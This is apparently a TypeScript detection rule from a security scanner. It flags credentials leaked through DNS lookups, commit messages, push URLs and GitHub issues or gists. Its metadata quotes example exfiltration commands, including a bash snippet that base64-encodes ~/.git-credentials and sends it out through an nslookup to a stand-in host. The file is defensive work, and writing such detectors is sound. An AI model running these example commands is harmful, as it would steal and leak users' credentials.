import { codeFactsOf, type CodeCall } from '../../code/code-facts';
import { codeLexicon } from '../../lexicons/lexicon';
import type { Rule, RuleHit } from '../rule.types';
import { CREDENTIAL_SOURCE } from '../vocabulary';

const SOURCE = new RegExp(CREDENTIAL_SOURCE, 'i');
/** A secret read from the environment by name: `$GH_TOKEN`, `os.environ["API_KEY"]`, `process.env.DB_PASSWORD`, `$env:AWS_SECRET`. */
const SECRET_ENV =
  /(?:\$\{?|\$env:|environ(?:\.get\(|\[)\s{0,2}["']|getenv\(\s{0,2}["']|process\.env\.|process\.env\[\s{0,2}["'])[A-Za-z0-9_]{0,40}(?:TOKEN|SECRET|PASSWORD|PASSWD|API_?KEY|ACCESS_?KEY|PRIVATE_?KEY|CREDENTIALS?)\b/i;
/** `gh` subcommands that publish text: issues, pull requests, comments, gists, releases, raw API writes. */
const GH_PUBLISH = /^(?:issue|pr|gist|release|api)$/;
/** A push or remote URL that authenticates to the code host itself: how CI pushes, not a leak. */
const CODE_HOST_LOGIN = /@(?:[\w-]{1,40}\.){0,3}(?:github|gitlab|bitbucket)\.(?:com|org)\b/i;

function carriesSecret(args: readonly string[]): string | null {
  for (const a of args) if (SOURCE.test(a) || SECRET_ENV.test(a)) return a;
  return null;
}

let dottedSinks: readonly string[] | null = null;

/** Where the call puts its arguments, when that place is a channel no reviewer reads as a transfer. */
function covertChannel(call: CodeCall): string | null {
  const sinks = codeLexicon('code-covert-sink');
  dottedSinks ??= [...sinks].filter((s) => s.includes('.'));
  if (sinks.has(call.name) || sinks.has(call.name.slice(call.name.lastIndexOf('.') + 1)) || dottedSinks.some((s) => call.name.endsWith(s)))
    return 'a DNS name lookup';
  if (call.name === 'git' && call.args[0] === 'commit') return 'a commit message';
  if (call.name === 'git' && (call.args[0] === 'tag' || call.args[0] === 'notes')) return 'a git tag or note';
  if (call.name === 'git' && call.args[0] === 'push') return 'the URL of a git push';
  if (call.name === 'git' && call.args[0] === 'remote' && call.args[1] === 'add') return 'a git remote';
  if (call.name === 'gh' && GH_PUBLISH.test(call.args[0] ?? '')) return 'a published GitHub issue, comment or gist';
  return null;
}

/**
 * Secrets put where nobody reads them as a transfer: a host name looked up in DNS, a commit message
 * or trailer, a push URL, a published issue or gist. Read from parse trees, so a secret held in a
 * variable or built into an f-string is followed to the call; none of these channels has a
 * legitimate use for a credential.
 */
export const exfCredentialCovertChannelRule: Rule = {
  meta: {
    id: 'BW-EXF-008',
    title: 'Credential sent through a covert channel in code (DNS lookup, commit message, push URL, issue or gist)',
    category: 'data_exfiltration',
    severity: 'critical',
    confidence: 'high',
    asset_type: 'code_block',
    shows_intent: true,
    rationale:
      'A key file, a credential file or a secret environment variable built into a host name that is looked up (`nslookup $KEY.collector.example`), written into a commit message or trailer, a push URL, a GitHub issue, comment or gist leaves the machine through a channel that egress filters and reviewers do not treat as an upload. Read from parse trees of scripts and commands, with the secret followed through variables and format strings.',
    example: '```bash\nTOKEN=$(cat ~/.git-credentials | base64 | tr -d "=")\nnslookup "$TOKEN.metrics.example"\n```',
  },
  regexes: [SOURCE, SECRET_ENV, GH_PUBLISH, CODE_HOST_LOGIN],
  match(ctx) {
    const hits: RuleHit[] = [];
    for (const call of codeFactsOf(ctx).calls) {
      const channel = covertChannel(call);
      if (!channel) continue;
      const secret = carriesSecret(call.args);
      // `https://x-access-token:$TOKEN@github.com/…` sends the token to the host that issued it.
      if (!secret || ((channel === 'the URL of a git push' || channel === 'a git remote') && CODE_HOST_LOGIN.test(secret))) continue;
      hits.push({ line: call.line, evidence: call.text, message: `A credential is put into ${channel}` });
    }
    return hits;
  },
};
